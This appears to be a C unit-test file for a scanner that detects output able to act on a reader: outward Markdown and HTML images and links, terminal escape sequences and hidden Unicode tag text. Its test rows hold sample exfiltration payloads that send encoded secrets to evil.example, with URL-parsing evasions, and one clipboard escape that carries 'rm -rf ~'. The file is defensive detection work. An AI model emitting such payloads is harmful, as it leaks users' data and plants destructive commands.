/* What acts on a reader, where its examples need brackets of their own: links of Markdown in each of their
 * forms, sequences of terminals. Whatever the cuts, a stream finds the same. */
#include "engine_help.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#define DATA "VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz" /* The password of the boss */
#define EVIL "https://evil.example/"
#define WORDS "the%20merger%20closes%20on%20friday"
#define CSI "\x1b["
#define OSC "\x1b]"
#define TAGS "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7\xf3\xa0\x81\xae"

/* A text, and what of it has to be found as this kind; NULL: nothing that acts on a reader. */
typedef struct row {
    const char *text;
    sp_kind kind;
    const char *found;
} row;

static const row rows[] = {
    /* ---- images: inline, in angle brackets, with a title, inside of a link, long alternative text ---- */
    {"![x](" EVIL "p.png?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, EVIL "p.png?q=" DATA},
    {"![](" EVIL "?q=" WORDS ")", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" WORDS},
    {"![a](<" EVIL "?q=the merger closes on friday>)", SP_KIND_OUTWARD_IMAGE,
     EVIL "?q=the merger closes on friday"},
    {"![a]( " EVIL "?q=" DATA " \"title\")", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    {"[![a](" EVIL "" DATA "/x.svg)](https://ok.example)", SP_KIND_OUTWARD_IMAGE, EVIL "" DATA "/x.svg"},
    {"![a [b] c](" EVIL "?(x)=" DATA ")", SP_KIND_OUTWARD_IMAGE, EVIL "?(x)=" DATA},
    {"![a](//evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
    {"![a](HTTPS://evil.example/#" DATA ")", SP_KIND_OUTWARD_IMAGE, "HTTPS://evil.example/#" DATA},
    {"![a](https://ok.example@evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE,
     "https://ok.example@evil.example/?q=" DATA},
    {"![a](" EVIL "?u=https://ok.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE,
     EVIL "?u=https://ok.example/?q=" DATA},
    {"![a](https://[2001:db8::1]/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https://[2001:db8::1]/?q=" DATA},
    {"[a text of a link that is so long that nobody who looks back a hundred bytes can say any more whether "
     "it "
     "began as one or as a picture](" EVIL "?q=" DATA ")",
     SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    /* ---- what browsers take for "https://" ---- */
    {"![a](https:/evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:/evil.example/?q=" DATA},
    {"![a](https:evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:evil.example/?q=" DATA},
    {"![a](https:\\\\evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:\\\\evil.example/?q=" DATA},
    {"![a](HTTP:/\\/evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "HTTP:/\\/evil.example/?q=" DATA},
    {"![a](https://///////////evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE,
     "https://///////////evil.example/?q=" DATA},
    {"![a](///evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "///evil.example/?q=" DATA},
    {"<img src=\"https:/evil.example/?q=" DATA "\">", SP_KIND_OUTWARD_IMAGE, "https:/evil.example/?q=" DATA},
    {"see https:evil.example/?q=" DATA " there", SP_KIND_NONE, NULL},
    {"https: " DATA ", http: none", SP_KIND_NONE, NULL},
    {"![a](xhttps:/evil.example/?q=" DATA ")", SP_KIND_NONE, NULL},
    /* ---- definitions, which images may refer to ---- */
    {"![x][ref]\n\n[ref]: " EVIL "?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    {"[1]: <" EVIL "?q=" DATA ">", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    {"[1]: //evil.example/?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
    {"[1]:\n//evil.example/?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
    {"![a]( //evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
    {"<img src=' " EVIL "?q=" DATA "'>", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    {"<base href='" EVIL "?q=" DATA "'>", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    {"<a href=' " EVIL "?q=" DATA "'>", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
    /* ---- links ---- */
    {"[x](" EVIL "?q=" DATA ")", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
    {"see <" EVIL "?q=" DATA ">", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
    {"open " EVIL "?q=" DATA ".", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
    {"\"" EVIL "?q=" DATA "\"", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
    {"@import url('" EVIL "?q=" DATA "');", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
    /* ---- what carries nothing ---- */
    {"![logo](https://cdn.example/assets/logo-dark@2x.png)", SP_KIND_NONE, NULL},
    {"![badge](https://img.example/badge/build-passing%20on%20linux-green.svg?style=flat)", SP_KIND_NONE,
     NULL},
    {"![photo](https://images.example/photo-1506744038136-46273834b3fb?auto=format&fit=crop&w=1080&q=80)",
     SP_KIND_NONE, NULL},
    {"![a](./images/overview.png \"The whole of it in one picture\")", SP_KIND_NONE, NULL},
    {"[docs](https://docs.example/en/latest/getting-started.html#install-from-source-on-linux)", SP_KIND_NONE,
     NULL},
    {"[search](https://search.example/?q=how+to+bake+bread&hl=en)", SP_KIND_NONE, NULL},
    {"[1]: https://example.org/rfc/rfc9110.html#section-9.3.1", SP_KIND_NONE, NULL},
    {"[a](https://git.example/o/r/blob/9a3f1c0d5e7b2a4f6c8d0e1f3a5b7c9d1e3f5a7b/src/main.c#L10-L20)",
     SP_KIND_NONE, NULL},
    {"![](" DATA ")", SP_KIND_NONE, NULL},
    /* ---- terminals ---- */
    {"a " CSI "31;1mred", SP_KIND_TERMINAL_ESCAPE, CSI "31;1m"},
    {CSI "2J"
         "x",
     SP_KIND_TERMINAL_ESCAPE, CSI "2J"},
    {OSC "52;c;cm0gLXJmIH4=\x07"
         "b",
     SP_KIND_TERMINAL_ESCAPE, OSC "52;c;cm0gLXJmIH4=\x07"},
    {OSC "8;;"
         "x:y\x1b\\text",
     SP_KIND_TERMINAL_ESCAPE,
     OSC "8;;"
         "x:y\x1b\\"},
    {OSC "0;title\nnext", SP_KIND_TERMINAL_ESCAPE, OSC "0;title"},
    {"a\x1b\x01"
     "b",
     SP_KIND_TERMINAL_ESCAPE, "\x1b"},
    {"\\x1b[31m and \\033[0m and ^[[1m and [31m", SP_KIND_NONE, NULL},
    /* ---- hidden text beside brackets ---- */
    {"[x](y)" TAGS, SP_KIND_HIDDEN_TEXT, TAGS},
};

static bool acts_on_reader(const sp_finding *f)
{
    return f->kind == SP_KIND_OUTWARD_IMAGE || f->kind == SP_KIND_OUTWARD_LINK ||
           f->kind == SP_KIND_TERMINAL_ESCAPE || f->kind == SP_KIND_HIDDEN_TEXT;
}

/* Keeps what acts on a reader. */
static void keep_those(sp_findings *found)
{
    size_t n = 0;
    for (size_t i = 0; i < found->n; i++) {
        if (acts_on_reader(&found->v[i])) found->v[n++] = found->v[i];
    }
    found->n = n;
}

static void check_found(const row *r, const sp_findings *found)
{
    if (r->found == NULL) {
        if (found->n != 0) fail_msg("found in: %s", r->text);
        return;
    }
    const size_t start = (size_t)(strstr(r->text, r->found) - r->text);
    if (found->n != 1 || found->v[0].kind != r->kind || found->v[0].start != start ||
        found->v[0].end != start + strlen(r->found))
        fail_msg("%zu found in: %s", found->n, r->text);
}

static void each_form_is_found(void **state)
{
    fixture *f = *state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        sp_arena arena;
        sp_arena_init(&arena, 1 << 20);
        sp_findings found = SP_FINDINGS_IN(&arena.mem, 100);
        assert_int_equal(sp_scan(&found, f->engine, f->scratch, sp_bytes_of(rows[i].text)), SP_OK);
        keep_those(&found);
        check_found(&rows[i], &found);
        sp_arena_fini(&arena);
    }
}

/* In pieces of `step` bytes; what is not reported yet lies behind the release point. */
static void feed_in_steps(fixture *f, const row *r, const char *front, size_t step)
{
    char text[1024];
    const size_t n_front = strlen(front), n = n_front + strlen(r->text);
    assert_true(n < sizeof text);
    for (size_t i = 0; i < n; i++) text[i] = i < n_front ? front[i] : r->text[i - n_front];
    sp_arena arena;
    sp_arena_init(&arena, 1 << 20);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, 100);
    sp_tape *tape;
    uint64_t release = 0;
    assert_int_equal(sp_tape_new(&tape, f->engine, f->scratch, &arena.mem), SP_OK);
    for (size_t at = 0; at < n; at += step) {
        const sp_bytes piece = {(const uint8_t *)text + at, at + step < n ? step : n - at};
        const size_t n_before = found.n;
        const uint64_t before = release;
        assert_int_equal(sp_tape_feed(tape, piece, at + step >= n, &found, &release), SP_OK);
        for (size_t i = n_before; i < found.n; i++) assert_true(found.v[i].start >= before);
    }
    keep_those(&found);
    for (size_t i = 0; i < found.n; i++)
        found.v[i].start -= (uint32_t)n_front, found.v[i].end -= (uint32_t)n_front;
    check_found(r, &found);
    sp_arena_fini(&arena);
}

static void pieces_give_the_same(void **state)
{
    static const char prose[] =
        "Some prose goes before it, longer than what any detector may look back at, so "
        "that the stream has dropped its beginning when the end of it comes to pass.\n";
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        for (size_t step = 1; step < 12; step++) {
            feed_in_steps(*state, &rows[i], "", step);
            feed_in_steps(*state, &rows[i], prose, step);
        }
    }
}

/* An address without end is cut, and its rest is no address any more. */
static void an_endless_address_is_found_as_far_as_that(void **state)
{
    fixture *f = *state;
    static char text[9000] = "![x](" EVIL "?q=";
    const size_t n = strlen(text);
    memset(text + n, 'x', sizeof text - n);
    sp_arena arena;
    sp_arena_init(&arena, 1 << 20);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, 100);
    assert_int_equal(sp_scan(&found, f->engine, f->scratch, (sp_bytes){(uint8_t *)text, sizeof text}), SP_OK);
    keep_those(&found);
    assert_int_equal(found.n, 1);
    assert_int_equal(found.v[0].end - found.v[0].start, 2048);
    sp_arena_fini(&arena);
}

/* However long a run of them is, nothing of it is left out. */
static void a_long_run_is_found_whole(void **state)
{
    fixture *f = *state;
    static uint8_t text[3 * 5000];
    for (size_t i = 0; i < sizeof text; i++) text[i] = (uint8_t) "\xe2\x80\x8b"[i % 3];
    sp_arena arena;
    sp_arena_init(&arena, 1 << 20);
    sp_findings found = SP_FINDINGS_IN(&arena.mem, 100);
    assert_int_equal(sp_scan(&found, f->engine, f->scratch, (sp_bytes){text, sizeof text}), SP_OK);
    keep_those(&found);
    uint32_t end = 0;
    for (size_t i = 0; i < found.n; i++) {
        assert_int_equal(found.v[i].start, end);
        end = found.v[i].end;
    }
    assert_int_equal(end, sizeof text);
    sp_arena_fini(&arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_form_is_found),
        cmocka_unit_test(pieces_give_the_same),
        cmocka_unit_test(an_endless_address_is_found_as_far_as_that),
        cmocka_unit_test(a_long_run_is_found_whole),
    };
    return cmocka_run_group_tests(tests, engine_set_up, engine_tear_down);
}
